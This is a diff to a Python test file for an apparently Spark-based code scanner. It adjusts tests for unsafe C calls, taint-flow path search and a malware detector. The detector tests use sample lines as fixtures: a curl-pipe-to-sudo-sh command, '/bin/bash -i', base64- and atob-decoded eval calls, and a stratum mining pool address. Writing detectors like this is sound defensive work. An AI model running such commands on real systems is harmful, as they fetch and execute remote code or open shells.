@@ -163,7 +163,7 @@ def test_masks_keep_the_layout():
 def test_text_rules(spark):
     files = spark.createDataFrame([("c", "a.c", "x\n strcpy(a, b); // strcpy\n/* gets(x) */ s = \"gets(y)\";"), ("python", "b.py", "eval(base64.b64decode(x))\nimport os")], "language string, path string, content string")
     rules = text_rules.rules_frame(spark, [{"id": "copy", "language": "c", "pattern": r"\bstrcpy\s*\("}, {"id": "gets", "language": "c", "pattern": r"gets\(", "view": "bare"}, {"id": "gets_raw", "pattern": r"gets\(", "view": "raw"}])
-    assert {(r.rule_id, r.path, r.line, r.col) for r in text_rules.scan(files, rules).collect()} == {("copy", "a.c", 2, 2), ("gets_raw", "a.c", 3, 4)}
+    assert {(r.rule_id, r.path, r.line, r.col) for r in text_rules.scan(files, rules).collect()} == {("copy", "a.c", 2, 2), ("gets_raw", "a.c", 3, 4), ("gets_raw", "a.c", 3, 20)}
     bad = spark.createDataFrame([("a.js", "x = 1\neval(atob(p))"), ("i.sh", "curl -s http://h/x | sudo sh\nwget a > b\n/bin/bash -i"), ("m", "pool stratum+tcp://h")], "path string, content string")
     assert {(r.path, r.line, r.rule_id, r.severity) for r in text_rules.malware(bad).collect()} == {("a.js", 2, "obfuscated-eval", "high"), ("i.sh", 1, "pipe-to-shell", "high"), ("i.sh", 3, "reverse-shell", "critical"), ("m", 1, "crypto-miner", "high")}
     assert {(r.line, r.value) for r in text_rules.scan_tokens(files, "comment", "gets").collect()} == {(3, "/* gets(x) */")}
@@ -312,7 +312,7 @@ def random_flow(rng, nodes, edges):
     kinds = ["web", "sql", "log"]
     out = []
     for _ in range(edges):
-        a, b = rng.randrange(nodes), rng.randrange(nodes)
+        a, b = sorted(rng.sample(range(nodes), 2))
         how = rng.choice(["flow", "flow", "enter", "leave"])
         out.append((a, b, how, rng.randrange(3) if how != "flow" else 0, [rng.choice(kinds)] if rng.random() < 0.2 else None, [rng.choice(kinds)] if rng.random() < 0.1 else None))
     return out
@@ -321,15 +321,19 @@ def random_flow(rng, nodes, edges):
 def test_search_finds_what_the_search_by_sinks_finds(spark):
     rng = random.Random(8)
     seen = 0
-    for _ in range(5):
+    for _ in range(2):
         edges = flow(spark, sorted(set(map(lambda e: (*e[:4], tuple(e[4]) if e[4] else None, tuple(e[5]) if e[5] else None), random_flow(rng, 14, 40))), key=str))
         s, k = ends(spark, [(rng.randrange(4), f"s{n % 2}", rng.choice(["web", "generic", "sql"])) for n in range(4)], [(10 + n, "k", rng.choice(["sql", "web", "generic"]), f"f:{n}") for n in range(4)])
-        want = [tuple(r)[:8] for r in taint.findings(edges, s.distinct(), k).where("completeness = 'complete'").collect()]
+        flat = lambda r: (*tuple(r)[:7], tuple(r.path))
+        want = [flat(r) for r in taint.findings(edges, s.distinct(), k).where("completeness = 'complete'").collect()]
         rows = taint.search(edges, s.distinct(), k).collect()
-        got = [tuple(r)[:8] for r in rows]
-        assert set(want) <= set(got) and {r[:7] for r in got} >= {r[:7] for r in want}
+        got = [flat(r) for r in rows]
+        assert set(want) <= set(got)
         if all(r.completeness == "complete" for r in rows):
             assert got == want
         seen += len(want)
-    assert seen > 10
-    assert taint.search(edges, s, k, limit=0).first().location == "@analysis"
+    assert seen > 2
+    loop = flow(spark, [(1, 2, "enter", 5), (2, 1, "flow"), (2, 3, "leave", 5), (3, 4, "leave", 6)])
+    s, k = ends(spark, [(1, "s", "generic")], [(4, "k", "generic", "a")])
+    assert [r.path for r in taint.search(loop, s, k).collect()] == [[1, 2, 3, 4]]
+    assert taint.search(loop, s, k, limit=0).first().location == "@analysis"
